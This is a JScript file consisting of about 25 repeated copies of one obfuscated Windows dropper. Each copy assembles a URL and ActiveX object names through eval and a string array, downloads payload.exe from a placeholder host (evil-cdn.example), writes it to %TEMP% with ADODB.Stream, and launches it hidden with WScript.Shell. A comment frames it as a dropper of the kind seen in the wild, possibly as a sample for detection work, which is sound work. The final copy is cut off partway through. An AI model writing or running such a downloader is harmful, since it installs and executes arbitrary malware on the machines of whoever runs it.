// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts0 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p0(i) { return parts0[i]; }
var host0 = eval("p0(1) + p0(6)");
var url0 = eval("'" + p0(0).replace("xx", "tt") + "://' + host0 + p0(7) + p0(2)");
var shell0 = new ActiveXObject(p0(5));
var target0 = shell0.ExpandEnvironmentStrings("%TEMP%") + "\\" + p0(2);
var xhr0 = new ActiveXObject(p0(3));
xhr0.open("GET", url0, false);
xhr0.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr0.send();
if (xhr0.status == 200) {
  var stream0 = new ActiveXObject(p0(4));
  stream0.Open();
  stream0.Type = 1;
  stream0.Write(xhr0.responseBody);
  stream0.Position = 0;
  stream0.SaveToFile(target0, 2);
  stream0.Close();
  shell0.Run("cmd.exe /c start \"\" \"" + target0 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts1 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p1(i) { return parts1[i]; }
var host1 = eval("p1(1) + p1(6)");
var url1 = eval("'" + p1(0).replace("xx", "tt") + "://' + host1 + p1(7) + p1(2)");
var shell1 = new ActiveXObject(p1(5));
var target1 = shell1.ExpandEnvironmentStrings("%TEMP%") + "\\" + p1(2);
var xhr1 = new ActiveXObject(p1(3));
xhr1.open("GET", url1, false);
xhr1.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr1.send();
if (xhr1.status == 200) {
  var stream1 = new ActiveXObject(p1(4));
  stream1.Open();
  stream1.Type = 1;
  stream1.Write(xhr1.responseBody);
  stream1.Position = 0;
  stream1.SaveToFile(target1, 2);
  stream1.Close();
  shell1.Run("cmd.exe /c start \"\" \"" + target1 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts2 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p2(i) { return parts2[i]; }
var host2 = eval("p2(1) + p2(6)");
var url2 = eval("'" + p2(0).replace("xx", "tt") + "://' + host2 + p2(7) + p2(2)");
var shell2 = new ActiveXObject(p2(5));
var target2 = shell2.ExpandEnvironmentStrings("%TEMP%") + "\\" + p2(2);
var xhr2 = new ActiveXObject(p2(3));
xhr2.open("GET", url2, false);
xhr2.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr2.send();
if (xhr2.status == 200) {
  var stream2 = new ActiveXObject(p2(4));
  stream2.Open();
  stream2.Type = 1;
  stream2.Write(xhr2.responseBody);
  stream2.Position = 0;
  stream2.SaveToFile(target2, 2);
  stream2.Close();
  shell2.Run("cmd.exe /c start \"\" \"" + target2 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts3 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p3(i) { return parts3[i]; }
var host3 = eval("p3(1) + p3(6)");
var url3 = eval("'" + p3(0).replace("xx", "tt") + "://' + host3 + p3(7) + p3(2)");
var shell3 = new ActiveXObject(p3(5));
var target3 = shell3.ExpandEnvironmentStrings("%TEMP%") + "\\" + p3(2);
var xhr3 = new ActiveXObject(p3(3));
xhr3.open("GET", url3, false);
xhr3.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr3.send();
if (xhr3.status == 200) {
  var stream3 = new ActiveXObject(p3(4));
  stream3.Open();
  stream3.Type = 1;
  stream3.Write(xhr3.responseBody);
  stream3.Position = 0;
  stream3.SaveToFile(target3, 2);
  stream3.Close();
  shell3.Run("cmd.exe /c start \"\" \"" + target3 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts4 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p4(i) { return parts4[i]; }
var host4 = eval("p4(1) + p4(6)");
var url4 = eval("'" + p4(0).replace("xx", "tt") + "://' + host4 + p4(7) + p4(2)");
var shell4 = new ActiveXObject(p4(5));
var target4 = shell4.ExpandEnvironmentStrings("%TEMP%") + "\\" + p4(2);
var xhr4 = new ActiveXObject(p4(3));
xhr4.open("GET", url4, false);
xhr4.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr4.send();
if (xhr4.status == 200) {
  var stream4 = new ActiveXObject(p4(4));
  stream4.Open();
  stream4.Type = 1;
  stream4.Write(xhr4.responseBody);
  stream4.Position = 0;
  stream4.SaveToFile(target4, 2);
  stream4.Close();
  shell4.Run("cmd.exe /c start \"\" \"" + target4 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts5 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p5(i) { return parts5[i]; }
var host5 = eval("p5(1) + p5(6)");
var url5 = eval("'" + p5(0).replace("xx", "tt") + "://' + host5 + p5(7) + p5(2)");
var shell5 = new ActiveXObject(p5(5));
var target5 = shell5.ExpandEnvironmentStrings("%TEMP%") + "\\" + p5(2);
var xhr5 = new ActiveXObject(p5(3));
xhr5.open("GET", url5, false);
xhr5.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr5.send();
if (xhr5.status == 200) {
  var stream5 = new ActiveXObject(p5(4));
  stream5.Open();
  stream5.Type = 1;
  stream5.Write(xhr5.responseBody);
  stream5.Position = 0;
  stream5.SaveToFile(target5, 2);
  stream5.Close();
  shell5.Run("cmd.exe /c start \"\" \"" + target5 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts6 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p6(i) { return parts6[i]; }
var host6 = eval("p6(1) + p6(6)");
var url6 = eval("'" + p6(0).replace("xx", "tt") + "://' + host6 + p6(7) + p6(2)");
var shell6 = new ActiveXObject(p6(5));
var target6 = shell6.ExpandEnvironmentStrings("%TEMP%") + "\\" + p6(2);
var xhr6 = new ActiveXObject(p6(3));
xhr6.open("GET", url6, false);
xhr6.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr6.send();
if (xhr6.status == 200) {
  var stream6 = new ActiveXObject(p6(4));
  stream6.Open();
  stream6.Type = 1;
  stream6.Write(xhr6.responseBody);
  stream6.Position = 0;
  stream6.SaveToFile(target6, 2);
  stream6.Close();
  shell6.Run("cmd.exe /c start \"\" \"" + target6 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts7 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p7(i) { return parts7[i]; }
var host7 = eval("p7(1) + p7(6)");
var url7 = eval("'" + p7(0).replace("xx", "tt") + "://' + host7 + p7(7) + p7(2)");
var shell7 = new ActiveXObject(p7(5));
var target7 = shell7.ExpandEnvironmentStrings("%TEMP%") + "\\" + p7(2);
var xhr7 = new ActiveXObject(p7(3));
xhr7.open("GET", url7, false);
xhr7.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr7.send();
if (xhr7.status == 200) {
  var stream7 = new ActiveXObject(p7(4));
  stream7.Open();
  stream7.Type = 1;
  stream7.Write(xhr7.responseBody);
  stream7.Position = 0;
  stream7.SaveToFile(target7, 2);
  stream7.Close();
  shell7.Run("cmd.exe /c start \"\" \"" + target7 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts8 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p8(i) { return parts8[i]; }
var host8 = eval("p8(1) + p8(6)");
var url8 = eval("'" + p8(0).replace("xx", "tt") + "://' + host8 + p8(7) + p8(2)");
var shell8 = new ActiveXObject(p8(5));
var target8 = shell8.ExpandEnvironmentStrings("%TEMP%") + "\\" + p8(2);
var xhr8 = new ActiveXObject(p8(3));
xhr8.open("GET", url8, false);
xhr8.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr8.send();
if (xhr8.status == 200) {
  var stream8 = new ActiveXObject(p8(4));
  stream8.Open();
  stream8.Type = 1;
  stream8.Write(xhr8.responseBody);
  stream8.Position = 0;
  stream8.SaveToFile(target8, 2);
  stream8.Close();
  shell8.Run("cmd.exe /c start \"\" \"" + target8 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts9 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p9(i) { return parts9[i]; }
var host9 = eval("p9(1) + p9(6)");
var url9 = eval("'" + p9(0).replace("xx", "tt") + "://' + host9 + p9(7) + p9(2)");
var shell9 = new ActiveXObject(p9(5));
var target9 = shell9.ExpandEnvironmentStrings("%TEMP%") + "\\" + p9(2);
var xhr9 = new ActiveXObject(p9(3));
xhr9.open("GET", url9, false);
xhr9.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr9.send();
if (xhr9.status == 200) {
  var stream9 = new ActiveXObject(p9(4));
  stream9.Open();
  stream9.Type = 1;
  stream9.Write(xhr9.responseBody);
  stream9.Position = 0;
  stream9.SaveToFile(target9, 2);
  stream9.Close();
  shell9.Run("cmd.exe /c start \"\" \"" + target9 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts10 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p10(i) { return parts10[i]; }
var host10 = eval("p10(1) + p10(6)");
var url10 = eval("'" + p10(0).replace("xx", "tt") + "://' + host10 + p10(7) + p10(2)");
var shell10 = new ActiveXObject(p10(5));
var target10 = shell10.ExpandEnvironmentStrings("%TEMP%") + "\\" + p10(2);
var xhr10 = new ActiveXObject(p10(3));
xhr10.open("GET", url10, false);
xhr10.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr10.send();
if (xhr10.status == 200) {
  var stream10 = new ActiveXObject(p10(4));
  stream10.Open();
  stream10.Type = 1;
  stream10.Write(xhr10.responseBody);
  stream10.Position = 0;
  stream10.SaveToFile(target10, 2);
  stream10.Close();
  shell10.Run("cmd.exe /c start \"\" \"" + target10 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts11 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p11(i) { return parts11[i]; }
var host11 = eval("p11(1) + p11(6)");
var url11 = eval("'" + p11(0).replace("xx", "tt") + "://' + host11 + p11(7) + p11(2)");
var shell11 = new ActiveXObject(p11(5));
var target11 = shell11.ExpandEnvironmentStrings("%TEMP%") + "\\" + p11(2);
var xhr11 = new ActiveXObject(p11(3));
xhr11.open("GET", url11, false);
xhr11.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr11.send();
if (xhr11.status == 200) {
  var stream11 = new ActiveXObject(p11(4));
  stream11.Open();
  stream11.Type = 1;
  stream11.Write(xhr11.responseBody);
  stream11.Position = 0;
  stream11.SaveToFile(target11, 2);
  stream11.Close();
  shell11.Run("cmd.exe /c start \"\" \"" + target11 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts12 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p12(i) { return parts12[i]; }
var host12 = eval("p12(1) + p12(6)");
var url12 = eval("'" + p12(0).replace("xx", "tt") + "://' + host12 + p12(7) + p12(2)");
var shell12 = new ActiveXObject(p12(5));
var target12 = shell12.ExpandEnvironmentStrings("%TEMP%") + "\\" + p12(2);
var xhr12 = new ActiveXObject(p12(3));
xhr12.open("GET", url12, false);
xhr12.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr12.send();
if (xhr12.status == 200) {
  var stream12 = new ActiveXObject(p12(4));
  stream12.Open();
  stream12.Type = 1;
  stream12.Write(xhr12.responseBody);
  stream12.Position = 0;
  stream12.SaveToFile(target12, 2);
  stream12.Close();
  shell12.Run("cmd.exe /c start \"\" \"" + target12 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts13 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p13(i) { return parts13[i]; }
var host13 = eval("p13(1) + p13(6)");
var url13 = eval("'" + p13(0).replace("xx", "tt") + "://' + host13 + p13(7) + p13(2)");
var shell13 = new ActiveXObject(p13(5));
var target13 = shell13.ExpandEnvironmentStrings("%TEMP%") + "\\" + p13(2);
var xhr13 = new ActiveXObject(p13(3));
xhr13.open("GET", url13, false);
xhr13.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr13.send();
if (xhr13.status == 200) {
  var stream13 = new ActiveXObject(p13(4));
  stream13.Open();
  stream13.Type = 1;
  stream13.Write(xhr13.responseBody);
  stream13.Position = 0;
  stream13.SaveToFile(target13, 2);
  stream13.Close();
  shell13.Run("cmd.exe /c start \"\" \"" + target13 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts14 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p14(i) { return parts14[i]; }
var host14 = eval("p14(1) + p14(6)");
var url14 = eval("'" + p14(0).replace("xx", "tt") + "://' + host14 + p14(7) + p14(2)");
var shell14 = new ActiveXObject(p14(5));
var target14 = shell14.ExpandEnvironmentStrings("%TEMP%") + "\\" + p14(2);
var xhr14 = new ActiveXObject(p14(3));
xhr14.open("GET", url14, false);
xhr14.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr14.send();
if (xhr14.status == 200) {
  var stream14 = new ActiveXObject(p14(4));
  stream14.Open();
  stream14.Type = 1;
  stream14.Write(xhr14.responseBody);
  stream14.Position = 0;
  stream14.SaveToFile(target14, 2);
  stream14.Close();
  shell14.Run("cmd.exe /c start \"\" \"" + target14 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts15 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p15(i) { return parts15[i]; }
var host15 = eval("p15(1) + p15(6)");
var url15 = eval("'" + p15(0).replace("xx", "tt") + "://' + host15 + p15(7) + p15(2)");
var shell15 = new ActiveXObject(p15(5));
var target15 = shell15.ExpandEnvironmentStrings("%TEMP%") + "\\" + p15(2);
var xhr15 = new ActiveXObject(p15(3));
xhr15.open("GET", url15, false);
xhr15.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr15.send();
if (xhr15.status == 200) {
  var stream15 = new ActiveXObject(p15(4));
  stream15.Open();
  stream15.Type = 1;
  stream15.Write(xhr15.responseBody);
  stream15.Position = 0;
  stream15.SaveToFile(target15, 2);
  stream15.Close();
  shell15.Run("cmd.exe /c start \"\" \"" + target15 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts16 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p16(i) { return parts16[i]; }
var host16 = eval("p16(1) + p16(6)");
var url16 = eval("'" + p16(0).replace("xx", "tt") + "://' + host16 + p16(7) + p16(2)");
var shell16 = new ActiveXObject(p16(5));
var target16 = shell16.ExpandEnvironmentStrings("%TEMP%") + "\\" + p16(2);
var xhr16 = new ActiveXObject(p16(3));
xhr16.open("GET", url16, false);
xhr16.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr16.send();
if (xhr16.status == 200) {
  var stream16 = new ActiveXObject(p16(4));
  stream16.Open();
  stream16.Type = 1;
  stream16.Write(xhr16.responseBody);
  stream16.Position = 0;
  stream16.SaveToFile(target16, 2);
  stream16.Close();
  shell16.Run("cmd.exe /c start \"\" \"" + target16 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts17 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p17(i) { return parts17[i]; }
var host17 = eval("p17(1) + p17(6)");
var url17 = eval("'" + p17(0).replace("xx", "tt") + "://' + host17 + p17(7) + p17(2)");
var shell17 = new ActiveXObject(p17(5));
var target17 = shell17.ExpandEnvironmentStrings("%TEMP%") + "\\" + p17(2);
var xhr17 = new ActiveXObject(p17(3));
xhr17.open("GET", url17, false);
xhr17.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr17.send();
if (xhr17.status == 200) {
  var stream17 = new ActiveXObject(p17(4));
  stream17.Open();
  stream17.Type = 1;
  stream17.Write(xhr17.responseBody);
  stream17.Position = 0;
  stream17.SaveToFile(target17, 2);
  stream17.Close();
  shell17.Run("cmd.exe /c start \"\" \"" + target17 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts18 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p18(i) { return parts18[i]; }
var host18 = eval("p18(1) + p18(6)");
var url18 = eval("'" + p18(0).replace("xx", "tt") + "://' + host18 + p18(7) + p18(2)");
var shell18 = new ActiveXObject(p18(5));
var target18 = shell18.ExpandEnvironmentStrings("%TEMP%") + "\\" + p18(2);
var xhr18 = new ActiveXObject(p18(3));
xhr18.open("GET", url18, false);
xhr18.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr18.send();
if (xhr18.status == 200) {
  var stream18 = new ActiveXObject(p18(4));
  stream18.Open();
  stream18.Type = 1;
  stream18.Write(xhr18.responseBody);
  stream18.Position = 0;
  stream18.SaveToFile(target18, 2);
  stream18.Close();
  shell18.Run("cmd.exe /c start \"\" \"" + target18 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts19 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p19(i) { return parts19[i]; }
var host19 = eval("p19(1) + p19(6)");
var url19 = eval("'" + p19(0).replace("xx", "tt") + "://' + host19 + p19(7) + p19(2)");
var shell19 = new ActiveXObject(p19(5));
var target19 = shell19.ExpandEnvironmentStrings("%TEMP%") + "\\" + p19(2);
var xhr19 = new ActiveXObject(p19(3));
xhr19.open("GET", url19, false);
xhr19.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr19.send();
if (xhr19.status == 200) {
  var stream19 = new ActiveXObject(p19(4));
  stream19.Open();
  stream19.Type = 1;
  stream19.Write(xhr19.responseBody);
  stream19.Position = 0;
  stream19.SaveToFile(target19, 2);
  stream19.Close();
  shell19.Run("cmd.exe /c start \"\" \"" + target19 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts20 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p20(i) { return parts20[i]; }
var host20 = eval("p20(1) + p20(6)");
var url20 = eval("'" + p20(0).replace("xx", "tt") + "://' + host20 + p20(7) + p20(2)");
var shell20 = new ActiveXObject(p20(5));
var target20 = shell20.ExpandEnvironmentStrings("%TEMP%") + "\\" + p20(2);
var xhr20 = new ActiveXObject(p20(3));
xhr20.open("GET", url20, false);
xhr20.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr20.send();
if (xhr20.status == 200) {
  var stream20 = new ActiveXObject(p20(4));
  stream20.Open();
  stream20.Type = 1;
  stream20.Write(xhr20.responseBody);
  stream20.Position = 0;
  stream20.SaveToFile(target20, 2);
  stream20.Close();
  shell20.Run("cmd.exe /c start \"\" \"" + target20 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts21 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p21(i) { return parts21[i]; }
var host21 = eval("p21(1) + p21(6)");
var url21 = eval("'" + p21(0).replace("xx", "tt") + "://' + host21 + p21(7) + p21(2)");
var shell21 = new ActiveXObject(p21(5));
var target21 = shell21.ExpandEnvironmentStrings("%TEMP%") + "\\" + p21(2);
var xhr21 = new ActiveXObject(p21(3));
xhr21.open("GET", url21, false);
xhr21.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr21.send();
if (xhr21.status == 200) {
  var stream21 = new ActiveXObject(p21(4));
  stream21.Open();
  stream21.Type = 1;
  stream21.Write(xhr21.responseBody);
  stream21.Position = 0;
  stream21.SaveToFile(target21, 2);
  stream21.Close();
  shell21.Run("cmd.exe /c start \"\" \"" + target21 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts22 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p22(i) { return parts22[i]; }
var host22 = eval("p22(1) + p22(6)");
var url22 = eval("'" + p22(0).replace("xx", "tt") + "://' + host22 + p22(7) + p22(2)");
var shell22 = new ActiveXObject(p22(5));
var target22 = shell22.ExpandEnvironmentStrings("%TEMP%") + "\\" + p22(2);
var xhr22 = new ActiveXObject(p22(3));
xhr22.open("GET", url22, false);
xhr22.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr22.send();
if (xhr22.status == 200) {
  var stream22 = new ActiveXObject(p22(4));
  stream22.Open();
  stream22.Type = 1;
  stream22.Write(xhr22.responseBody);
  stream22.Position = 0;
  stream22.SaveToFile(target22, 2);
  stream22.Close();
  shell22.Run("cmd.exe /c start \"\" \"" + target22 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts23 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p23(i) { return parts23[i]; }
var host23 = eval("p23(1) + p23(6)");
var url23 = eval("'" + p23(0).replace("xx", "tt") + "://' + host23 + p23(7) + p23(2)");
var shell23 = new ActiveXObject(p23(5));
var target23 = shell23.ExpandEnvironmentStrings("%TEMP%") + "\\" + p23(2);
var xhr23 = new ActiveXObject(p23(3));
xhr23.open("GET", url23, false);
xhr23.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr23.send();
if (xhr23.status == 200) {
  var stream23 = new ActiveXObject(p23(4));
  stream23.Open();
  stream23.Type = 1;
  stream23.Write(xhr23.responseBody);
  stream23.Position = 0;
  stream23.SaveToFile(target23, 2);
  stream23.Close();
  shell23.Run("cmd.exe /c start \"\" \"" + target23 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts24 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p24(i) { return parts24[i]; }
var host24 = eval("p24(1) + p24(6)");
var url24 = eval("'" + p24(0).replace("xx", "tt") + "://' + host24 + p24(7) + p24(2)");
var shell24 = new ActiveXObject(p24(5));
var target24 = shell24.ExpandEnvironmentStrings("%TEMP%") + "\\" + p24(2);
var xhr24 = new ActiveXObject(p24(3));
xhr24.open("GET", url24, false);
xhr24.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr24.send();
if (xhr24.status == 200) {
  var stream24 = new ActiveXObject(p24(4));
  stream24.Open();
  stream24.Type = 1;
  stream24.Write(xhr24.responseBody);
  stream24.Position = 0;
  stream24.SaveToFile(target24, 2);
  stream24.Close();
  shell24.Run("cmd.exe /c start \"\" \"" + target24 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts25 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
